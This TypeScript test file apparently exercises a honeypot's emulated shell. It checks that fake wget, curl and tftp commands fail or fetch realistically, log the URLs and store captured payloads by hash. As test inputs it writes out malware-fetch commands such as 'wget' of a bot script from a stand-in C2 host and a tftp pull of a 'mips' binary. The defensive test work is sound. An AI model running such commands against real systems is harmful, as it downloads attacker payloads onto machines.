import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testRuntime } from '../../test/runtime.js';
import { execIn, shellOn } from './test-helpers.js';

const PAYLOAD = '#!/bin/sh\necho second stage\n';

describe('wget, curl and tftp', () => {
  let server: Server;
  let base: string;
  beforeAll(async () => {
    server = createServer((req, res) => {
      if (req.url === '/big') {
        res.end(Buffer.alloc(5000, 0x41));
        return;
      }
      res.setHeader('content-type', 'text/x-sh');
      res.end(PAYLOAD);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('fails as wget does when fetching is off, and records the URL', async () => {
    const rt = testRuntime({ fetchEnabled: false });
    const run = execIn(shellOn(rt, 'web'));
    const result = await run('cd /tmp; wget http://dl.evil-c2.example/bot.sh');
    expect(result.stderr).toContain(
      'Resolving dl.evil-c2.example (dl.evil-c2.example)... failed: Name or service not known.',
    );
    expect(result.stderr).toContain('wget: unable to resolve host address ‘dl.evil-c2.example’');
    expect(result.exitCode).toBe(4);
    expect(rt.emitted).toContainEqual(
      expect.objectContaining({
        kind: 'download',
        url: 'http://dl.evil-c2.example/bot.sh',
        path: '/tmp/bot.sh',
        failed: true,
      }),
    );
    expect((await run('ls /tmp/bot.sh')).exitCode).toBe(2);
    expect(rt.stored.size).toBe(0);
  });

  it('fails as curl does when fetching is off: the decoy host itself refuses, an outside address times out', async () => {
    const rt = testRuntime({ fetchEnabled: false });
    const result = await execIn(shellOn(rt, 'web'))(`curl -s ${base}/x.sh; echo $?`);
    expect(result.stdout).toBe('7\n');
    expect(rt.emitted).toContainEqual(expect.objectContaining({ kind: 'download', url: `${base}/x.sh`, failed: true }));
    const outside = await execIn(shellOn(rt, 'web'))('curl http://198.51.100.9/x');
    expect(outside.stderr).toMatch(
      /^curl: \(28\) Failed to connect to 198\.51\.100\.9 port 80 after \d+ ms: Couldn't connect to server\n$/,
    );
    expect(outside.exitCode).toBe(28);
  });

  it('fetches with fetching on: stores the capture, writes the session copy and records its SHA-256', async () => {
    const rt = testRuntime({ fetchEnabled: true });
    const run = execIn(shellOn(rt, 'web'));
    const result = await run(`cd /tmp && wget ${base}/stage2.sh && cat stage2.sh`);
    expect(result.exitCode).toBe(0);
    expect(result.stdout).toBe(PAYLOAD);
    expect(result.stderr).toContain('HTTP request sent, awaiting response... 200 OK');
    expect(result.stderr).toContain(`‘stage2.sh’ saved [${PAYLOAD.length}/${PAYLOAD.length}]`);
    const sha256 = createHash('sha256').update(PAYLOAD).digest('hex');
    expect(rt.stored.get(sha256)?.toString()).toBe(PAYLOAD);
    expect(rt.emitted).toContainEqual(
      expect.objectContaining({
        kind: 'download',
        url: `${base}/stage2.sh`,
        path: '/tmp/stage2.sh',
        sha256,
        size: PAYLOAD.length,
        storedAs: `captures/${sha256}`,
      }),
    );
    expect((await run(`curl -s ${base}/again`)).stdout).toBe(PAYLOAD);
  });

  it('cuts a download over maxFileBytes', async () => {
    const rt = testRuntime({ fetchEnabled: true, limits: { maxFileBytes: 1000 } });
    const result = await execIn(shellOn(rt, 'web'))(`curl -o /tmp/big ${base}/big`);
    expect(result.exitCode).toBe(63);
    expect(rt.stored.size).toBe(0);
  });

  it('records tftp transfers, which time out', async () => {
    const rt = testRuntime();
    const result = await execIn(shellOn(rt, 'web'))('tftp -g -r mips 198.51.100.4');
    expect(result.stderr).toBe('Transfer timed out.\n\n');
    expect(rt.emitted).toContainEqual(
      expect.objectContaining({ kind: 'download', url: 'tftp://198.51.100.4/mips', failed: true }),
    );
  });
});
